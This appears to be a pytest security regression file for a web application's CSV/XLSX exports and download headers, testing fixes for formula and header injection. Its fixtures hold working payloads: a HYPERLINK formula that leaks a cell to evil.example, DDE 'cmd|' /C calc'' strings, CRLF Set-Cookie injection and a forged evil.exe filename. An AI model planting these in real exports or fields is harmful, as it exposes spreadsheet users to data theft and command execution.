"""Findings 1 and 2 of issue 13: formula injection in CSV/XLSX, and Content-Disposition whatever the name."""
import csv
import io
import re
from urllib.parse import unquote

import openpyxl
import pytest

from agir.extensions import db
from tests import factories

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
NASTY_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")'


def _csv_cells(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def _live(cell: str) -> bool:
    """A cell a spreadsheet would evaluate: starts with a formula character and is not a plain number."""
    return cell[:1] in DANGEROUS and not re.fullmatch(r"-?\d[\d  ]*(,\d+)?", cell)


@pytest.fixture
def nasty(world):
    world.programme.name = NASTY_NAME
    world.school.name = "+33 cmd|' /C calc'!A0"
    world.department.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    person = factories.make_person(world.department, world.agir, last_name="=1+2", first_name="-2+3")
    db.session.commit()
    return world, person


def test_the_annex_csv_and_xlsx_carry_no_live_formula(client, nasty):
    world, _ = nasty
    factories.login(client, "pilot@example.fr")
    url = f"/pilot/programmes/{world.programme.id}/annex"
    body = client.get(url + ".csv?from=2022-01-01&to=2022-12-31").data
    cells = _csv_cells(body)
    assert any(NASTY_NAME in c for c in cells)  # the name is still there, as text
    assert [c for c in cells if _live(c)] == []
    workbook = openpyxl.load_workbook(io.BytesIO(client.get(url + ".xlsx?from=2022-01-01&to=2022-12-31").data))
    _assert_no_formula(workbook, NASTY_NAME)
    workbook = openpyxl.load_workbook(io.BytesIO(
        client.get("/pilot/programmes/annexes.xlsx?from=2022-01-01&to=2022-12-31").data))
    _assert_no_formula(workbook, NASTY_NAME)


def _assert_no_formula(workbook, expected: str) -> None:
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    assert any(expected in t for t in texts)


def test_the_indicators_csv_and_xlsx_carry_no_live_formula(client, nasty):
    factories.login(client, "pilot@example.fr")
    cells = _csv_cells(client.get("/pilot/export.csv").data)
    assert any("@SUM" in c for c in cells)
    assert [c for c in cells if _live(c)] == []
    workbook = openpyxl.load_workbook(io.BytesIO(client.get("/pilot/export.xlsx").data))
    _assert_no_formula(workbook, "@SUM(1+1)")


def test_the_audit_trail_csv_carries_no_live_formula(client, nasty):
    _, person = nasty
    from agir import audit
    from models import User
    admin = db.session.query(User).filter_by(email="admin@example.fr").one()
    audit.record(admin, "person_viewed", person=person, detail="=cmd|' /C calc'!A0")
    db.session.commit()
    factories.login(client, "admin@example.fr")
    cells = _csv_cells(client.get(f"/admin/audit/persons/{person.id}.csv").data)
    assert any("cmd|" in c for c in cells)
    assert [c for c in cells if _live(c)] == []


def test_one_function_neutralises_text_and_keeps_numbers():
    from agir.safe_files import neutralise
    for text in ("=1+2", "+1", "-A1", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("x")'):
        assert neutralise(text) == "'" + text
    for value in (-5, -2.5, 0, 3, "-5", "-2,50", "-1 234,5", "Paris", "", None, "1-2"):
        assert neutralise(value) == value
    assert neutralise("-2+3") == "'-2+3"


@pytest.mark.parametrize("ref", ["PR\nX", "PR–2026", 'PR"; filename="evil.exe', "PR\r\nSet-Cookie: a=b",
                                 "Éducation linguistique", "PR/../..\\x"])
def test_the_annex_download_of_any_ref_is_safe(client, world, ref):
    world.programme.ref = ref
    db.session.commit()
    factories.login(client, "pilot@example.fr")
    for kind in ("csv", "xlsx"):
        response = client.get(f"/pilot/programmes/{world.programme.id}/annex.{kind}?from=2022-01-01&to=2022-12-31")
        assert response.status_code == 200
        header = response.headers["Content-Disposition"]
        assert "\n" not in header and "\r" not in header
        fallback = re.fullmatch(r'attachment; filename="([^"\\]*)"; filename\*=UTF-8\'\'(\S+)', header)
        assert fallback, header
        assert fallback.group(1).isascii() and "/" not in fallback.group(1)
        assert fallback.group(1).endswith(f".{kind}")
        full = unquote(fallback.group(2))
        assert full.endswith(f".{kind}") and "/" not in full and "\\" not in full and "\n" not in full
        if ref == "PR–2026":
            assert "PR–2026" in full


def test_every_download_uses_the_same_header(client, world):
    person = factories.make_person(world.department, world.agir)
    db.session.commit()
    factories.login(client, "admin@example.fr")
    header = client.get(f"/admin/audit/persons/{person.id}.csv").headers["Content-Disposition"]
    assert "filename*=UTF-8''" in header
    client.post("/logout", data={"csrf_token": factories.csrf_token(client, "/account")})
    factories.login(client, "sw@example.fr")
    header = client.get(f"/privacy/persons/{person.id}.json").headers["Content-Disposition"]
    assert "filename*=UTF-8''" in header
    client.post("/logout", data={"csrf_token": factories.csrf_token(client, "/account")})
    factories.login(client, "pilot@example.fr")
    header = client.get("/pilot/export.csv").headers["Content-Disposition"]
    assert "filename*=UTF-8''" in header
